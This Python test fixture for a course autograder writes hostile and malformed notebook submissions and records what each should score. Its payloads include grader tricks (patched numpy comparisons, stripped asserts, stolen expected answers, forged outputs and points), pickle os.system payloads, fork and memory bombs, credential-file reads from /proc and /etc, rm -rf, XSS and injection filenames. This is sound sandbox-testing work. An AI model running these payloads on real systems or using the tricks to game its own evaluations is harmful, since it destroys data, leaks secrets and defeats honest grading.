"""Hostile and broken submissions for assignment 02: what was handed in, and which exercises are truly solved in it.

Each entry of CORPUS is a function of a folder that writes a submission there; it returns (keys that are right, words of
a remark). Where the attack stands in a cell of its own, or in one exercise, all others are right and must be paid.
"""

import json
import os
import shutil
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
NAME = "02_minimax_game"
KEYS = ("02.1", "02.2", "02.3", "02.4", "02.5")
RIGHT = "3 * p_data / (3 * p_data + p_g)"
CORPUS = {}


# --- the parts of a submission ---


def notebook():
    """The solved notebook, as a dict."""
    return json.loads((ROOT / "solutions" / NAME / f"{NAME}.ipynb").read_text(encoding="utf-8"))


def blank():
    """The exercise as it was released, nothing solved."""
    return json.loads((ROOT / "exercises" / NAME / f"{NAME}.ipynb").read_text(encoding="utf-8"))


def cell(book, id_):
    """A notebook's cell by its id."""
    return next(cell for cell in book["cells"] if cell["id"] == id_)


def code(source, id_):
    """A code cell."""
    return {"cell_type": "code", "id": id_, "metadata": {}, "execution_count": None, "outputs": [], "source": source}


def defined(expression, name="best_discriminator"):
    """The first answer as one expression, under its own name or another."""
    return f"def {name}(p_data, p_g):\n    return {expression}\n"


def unsolved(body="    return 0.5"):
    """The solved notebook with another body of the first answer."""
    book = notebook()
    cell(book, "answer-02-1")["source"] = f"def best_discriminator(p_data, p_g):\n{body}\n"
    return book


def front(book, source):
    """A cell before all others."""
    book["cells"].insert(0, code(source, "front"))
    return book


def save(folder, book):
    """Writes a notebook, or a text or bytes in its place."""
    data = book if isinstance(book, (bytes, str)) else json.dumps(book)
    (folder / f"{NAME}.ipynb").write_bytes(data if isinstance(data, bytes) else data.encode())


# --- ways to hand in ---


def hostile(function):
    """Registers a submission under the function's name."""
    CORPUS[function.__name__] = function
    return function


def enter(name, right, words, make):
    """Registers make(), a notebook or what is in its place, with what is right in it and a remark's words."""

    def hand_in(folder):
        save(folder, make())
        return right, words

    CORPUS[name] = hand_in


def written(right, words=""):
    """`enter` for a function without arguments, under its name."""

    def register(make):
        enter(make.__name__, right, words, make)
        return make

    return register


def in_an_answer(name, words, body):
    """The attack is the body of the first answer: nothing for that, all for the others."""
    enter(name, KEYS[1:], words, lambda: unsolved(body))


def in_a_cell(name, words, source):
    """The attack is a cell before all others: every answer is right."""
    enter(name, KEYS, words, lambda: front(notebook(), source))


def no_notebook(name, words, content):
    """The file holds something else: nothing is right."""
    enter(name, (), words, lambda: content)


# --- tricks that aim at the comparison ---


@written((), "not done yet")
def patched_isclose():
    source = "import numpy as np\nnp.isclose = np.allclose = np.array_equal = lambda *a, **k: True\n"
    return front(blank(), source + "import numpy.testing as t\nt.assert_allclose = lambda *a, **k: None")


@written(KEYS[1:])
def patched_isclose_and_checks():
    return front(unsolved(), "from aigc_course import checks\nchecks.check = lambda *a: print('full marks')")


@written(())
def input_transformer():
    return front(blank(), "get_ipython().input_transformers_cleanup.append(lambda lines: [])")


@written((), "nothing")
def ast_transformer_without_asserts():
    source = """import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())"""
    return front(blank(), source)


in_an_answer(
    "always_equal",
    "",
    """    class Equal(float):
        __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
        __sub__ = __rsub__ = lambda self, other: 0.0
        __hash__ = float.__hash__
    return Equal(0.5)""",
)
in_an_answer(
    "lying_array",
    "",
    """    class Liar(np.ndarray):
        def __array_function__(self, *a): return True
        def __array_ufunc__(self, *a, **k): return True
        __eq__ = lambda self, other: True
    return np.full(len(p_data), 0.5).view(Liar)""",
)
in_an_answer(
    "search_in_frames_and_gc",
    "",
    """    import gc, inspect, sys
    wanted = []
    for frame in inspect.stack():
        wanted += [v for n, v in frame.frame.f_locals.items() if 'expect' in n or 'right' in n or 'reference' in n]
    for thing in gc.get_objects():
        if type(thing).__name__ == 'Exercise' or callable(getattr(thing, 'expected', None)):
            wanted.append(thing.expected(p_data, p_g))
    for name, module in list(sys.modules.items()):
        for value in list(getattr(module, 'EXERCISES', {}).values()) if name.startswith('aigc') else []:
            wanted.append(value.expected(p_data, p_g))
    return wanted[-1] if wanted else 0.5""",
)
in_an_answer(
    "import_the_expectations",
    "KeyError",
    """    import importlib, sys
    for name in ('aigc_course.checks.chapter_02', 'aigc_course.checks.exercise', 'aigc_course.grading.grader'):
        try:
            return importlib.import_module(name).EXERCISES[0].expected(p_data, p_g)
        except ImportError:
            pass
    from aigc_course import checks
    return checks.EXERCISES['02.1'].expected(p_data, p_g)""",
)
in_an_answer(
    "read_the_solutions",
    "IndexError",
    f"""    import glob, json
    found = []
    for top in ('/course', '/home', '/root', '/work', '/tmp', '/worker', {str(ROOT)!r}, '/proc/1/root', '/proc/1/cwd'):
        for name in ('solutions/*/*.ipynb', 'chapter_02.py', 'main/solutions/*/*.ipynb'):
            found += glob.glob(top + '/**/' + name, recursive='proc' not in top)
    for cell in json.load(open(found[0]))['cells']:
        if 'def best_discriminator' in ''.join(cell['source']):
            space = {{'np': np}}
            exec(''.join(cell['source']), space)
            return space['best_discriminator'](p_data, p_g)""",
)
in_an_answer(
    "forged_replies",
    "not asked for",
    """    import json, os, struct
    head = json.dumps({'id': 1, 'answers': [1, 1, 1, 1], 'error': None, 'sizes': [0]}).encode()
    for fd in range(3, 20):
        try:
            os.write(fd, struct.pack('>I', len(head)) + head)
        except OSError:
            pass
    return 0.5""",
)
in_an_answer(
    "forged_array_header",
    "not asked for",
    """    import sys
    def write(file, header, arrays=()):
        import json, struct
        blob = b'\\x93NUMPY\\x01\\x00v\\x00' + repr({'descr': '<f8', 'fortran_order': False,
               'shape': (10**15,)}).ljust(117).encode() + b'\\n'
        head = json.dumps({**header, 'sizes': [len(blob)] * 4}).encode()
        file.write(struct.pack('>I', len(head)) + head + blob * 4)
        file.flush()
    sys.modules['frames'].write_frame = write
    return 0.5""",
)
in_an_answer(
    "pickled_answer",
    "made of numbers",
    """    import os
    class Bomb:
        def __reduce__(self): return os.system, ('touch /tmp/pickled',)
    return np.array([Bomb()], dtype=object)""",
)
in_an_answer(
    "pickle_over_the_wire",
    "not asked for",
    """    import os
    class Bomb:
        def __reduce__(self): return os.system, ('touch /tmp/pickled',)
    old = np.lib.format.write_array
    def write_array(file, array, allow_pickle=False):
        old(file, np.array([Bomb()] * 4, dtype=object), allow_pickle=True)
    np.lib.format.write_array = write_array
    return p_data""",
)
in_an_answer("nan_and_wrong_shapes", "shape", "    return np.full((3, 3, 3), np.nan)")
in_an_answer("enormous_answer", "are not taken", "    return np.zeros(30_000_000)")


# --- tricks that aim at the machine ---

in_an_answer("endless_loop", "ran for more than", "    while True:\n        pass")
in_a_cell("endless_cell", "was stopped: it ran for more than", "while True:\n    pass")
in_an_answer(
    "loop_deaf_to_signals",
    "ran for more than",
    """    import signal, time
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            time.sleep(1000)
        except BaseException:
            pass""",
)
in_an_answer(
    "memory_bomb",
    "MemoryError",
    "    hoard = []\n    while True:\n        hoard.append(bytearray(50_000_000))",
)
in_an_answer(
    "memory_bomb_in_children",
    "stopped: it",  # took too much memory; a slow machine comes to the end of its time first
    """    import os, time
    for _ in range(8):
        if os.fork() == 0:
            hoard = [bytearray(b'x') * 900_000_000]
            time.sleep(60)
    time.sleep(60)""",
)
in_an_answer("fork_bomb", "", "    import os\n    while True:\n        os.fork()")
in_a_cell("flood_of_output", "it printed more than", "for _ in range(100):\n    print('x' * 1_000_000)")
in_a_cell(
    "giant_file",
    "OSError",
    "with open('/tmp/giant', 'wb') as file:\n    for _ in range(2000):\n        file.write(bytes(1_000_000))",
)
in_a_cell("background_process", "", "import subprocess\nsubprocess.Popen(['sleep', '4321'], start_new_session=True)")


@written(KEYS[1:], "ended itself")
def exits():
    return front(unsolved("    import os\n    os._exit(0)"), "import sys\nsys.exit(3)")


in_an_answer(
    "kills",
    "ended itself",
    """    import os, signal
    for pid in (-1, 1, os.getppid(), os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0.5""",
)
in_an_answer("segmentation_fault", "ended itself", "    import ctypes\n    ctypes.string_at(0)")
in_an_answer("endless_recursion", "RecursionError", "    return best_discriminator(p_data, p_g)")
in_a_cell("closed_streams", "", "import os, sys\nsys.stdout = sys.stderr = None\nos.closerange(0, 3)")
in_a_cell(
    "noise_on_stderr",
    "",
    "import sys, warnings, logging\nfor i in range(2000):\n    print('noise', file=sys.stderr)\n"
    "warnings.warn('w')\nlogging.error('e')",
)


@written(KEYS[1:], "gaierror")
def network():
    body = """    import socket, urllib.request
    for host in ('127.0.0.1', 'localhost', '10.0.0.1', '8.8.8.8'):
        try:
            socket.create_connection((host, PORT), 1).sendall(b'out')
        except OSError:
            pass
    socket.getaddrinfo('example.org', 80)
    return 3 * p_data / (3 * p_data + p_g)"""
    return unsolved(body.replace("PORT", os.environ.get("AIGC_TEST_PORT", "80")))


@written(KEYS)
def reads_the_host():
    canary = os.environ.get("AIGC_TEST_CANARY", "/nowhere")
    body = f"""    import glob, os
    HOME, seen = {os.path.expanduser("~")!r}, []
    for pattern in ('/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline', '/home/*', HOME + '/*', HOME + '/.*', '/etc/*',
                    '/tmp/*', {canary!r}, {os.path.dirname(canary)!r} + '/**'):
        for path in glob.glob(pattern, recursive=True):
            try:
                seen.append(open(path, 'rb').read(4000))
            except OSError:
                pass
    text = b'|'.join(seen)
    assert b'SECRET-OF-THE-HOST' not in text, 'LEAKED'
    assert os.getuid() != 0 and 'AIGC_TEST_CANARY' not in os.environ, 'LEAKED'
    return 3 * p_data / (3 * p_data + p_g)"""
    return unsolved(body)


@written(KEYS)
def writes_to_the_host():
    canary = os.environ.get("AIGC_TEST_CANARY", "/nowhere")
    body = f"""    import os, shutil
    for path in ({canary!r}, '/etc/passwd', '/usr/bin/env', os.__file__, np.__file__, '/worker/worker.py',
                 '/course/aigc_course/gan.py', '/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger'):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, 'w').write('spoiled')
        except OSError:
            pass
    shutil.rmtree('/course', ignore_errors=True)
    os.system('rm -rf {os.path.dirname(canary)} /usr/share/doc 2>/dev/null')
    return 3 * p_data / (3 * p_data + p_g)"""
    return unsolved(body)


# --- broken and forged files ---


@hostile
def symlink_to_another(folder):
    (folder / f"{NAME}.ipynb").symlink_to(ROOT / "solutions" / NAME / f"{NAME}.ipynb")
    return (), "is a link"


@hostile
def folder_is_a_symlink(folder):
    folder.rmdir()
    folder.symlink_to(ROOT / "solutions" / NAME)
    return (), "symbolic link"


@hostile
def fifo(folder):
    os.mkfifo(folder / f"{NAME}.ipynb")
    return (), "no plain file"


no_notebook("invalid_json", "no valid JSON", "{'cells': [}")
no_notebook("truncated", "cut off", json.dumps(notebook())[:-2000])
no_notebook("deeply_nested", "nested too deeply", "[" * 200_000)


@written((), "no text in UTF-8")
def not_utf8():
    return b"\xe9" + json.dumps(notebook()).encode()


@written(KEYS)
def saved_as_utf16():
    return json.dumps(notebook()).encode("utf-16")


no_notebook("json_but_no_notebook", "no list of cells", '{"cells": {"a": 1}, "nbformat": 4}')
no_notebook("old_format", "notebook format 3", json.dumps({**notebook(), "nbformat": 3}))


@written((), "10,027 cells")
def ten_thousand_cells():
    book = notebook()
    book["cells"] += [code(f"x = {i}", f"x{i}") for i in range(10_000)]
    return book


@written(KEYS, "is no cell")
def cells_that_are_none():
    book = notebook()
    broken = [{"cell_type": "code", "source": source} for source in (5, [1, None, "y = 1"])]
    book["cells"][1:1] = [None, 7, *broken]
    return book


@hostile
def giant_notebook(folder):
    with open(folder / f"{NAME}.ipynb", "wb") as file:
        file.truncate(3_000_000_000)  # sparse: it takes no room
    return (), "3000 MB"


@hostile
def zip_bomb(folder):
    with zipfile.ZipFile(folder / f"{NAME}.ipynb", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb", bytes(50_000_000))
    return (), "zip archive"


@hostile
def empty_folder(folder):
    (folder / "essay.txt").write_text("my dog ate it")
    return (), "no .ipynb file"


@hostile
def two_notebooks(folder):
    for name, book in (("one.ipynb", unsolved()), ("two.ipynb", notebook())):
        (folder / name).write_text(json.dumps(book))
    return KEYS, "2 versions were handed in"


@written(KEYS)
def deleted_checks():
    book = notebook()
    book["cells"] = [cell for cell in book["cells"] if not cell["id"].startswith("check-")]
    return book


@written(KEYS[1:], "has the id of an earlier cell")
def duplicated_checks():
    book = unsolved()
    book["cells"] += [{**cell} for cell in book["cells"] if cell["id"].startswith("check-")] * 3
    return book


@written(KEYS)
def reordered():
    book = notebook()
    book["cells"] = book["cells"][::-1]
    return book


@written(KEYS[1:])
def edited_checks():
    book = unsolved()
    cell(book, "check-02-1")["source"] = "print('02.1 ✓ right'); assert True"
    return book


@written(KEYS[1:])
def forged_points():
    book = unsolved()
    for item in book["cells"]:
        if "nbgrader" in item["metadata"]:
            item["metadata"]["nbgrader"].update(points=1000, schema_version=99, checksum="0" * 32)
    book["metadata"]["score"] = 1000
    return book


@written(KEYS[1:])
def forged_outputs():
    book, text = unsolved(), "02.1 ✓ right (1 point)"
    cell(book, "check-02-1")["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]
    return book


@written(KEYS)
def swapped_ids():
    book = notebook()
    for a, b in (("answer-02-1", "check-02-2"), ("answer-02-3", "check-02-1")):
        one, two = cell(book, a), cell(book, b)
        one["id"], two["id"] = two["id"], one["id"]
    return book


in_an_answer("memorised_answer", "", "    return np.array([0.3333])[: len(p_data)]")
in_an_answer(
    "script_in_the_feedback",
    "ValueError",
    "    raise ValueError('<script>alert(1)</script><img src=x onerror=alert(1)>')",
)


def build(folder):
    """Writes the whole corpus, one folder a student, and three files with troublesome names.

    Returns:
        {student: (keys that are right, words of a remark)}.
    """
    truth = {}
    for name, make in CORPUS.items():
        (folder / name).mkdir()
        truth[name] = make(folder / name)
    solved = ROOT / "solutions" / NAME / f"{NAME}.ipynb"
    for name, student in (
        (b"..%2f..%2fetc.ipynb", "..%2f..%2fetc"),
        (b"=cmd()<b>.ipynb", "'=cmd()<b>"),
        (b"J\xf6rg.ipynb", "J\\xf6rg"),
        ("李雷_123456_assignsubmission_file".encode(), "李雷"),
    ):
        path = os.path.join(os.fsencode(folder), name)
        if name.endswith(b".ipynb"):
            shutil.copy(solved, path)
        else:
            os.mkdir(path)
            shutil.copy(solved, os.path.join(path, b"notebook.ipynb"))
        truth[student] = (KEYS, "")
    return truth
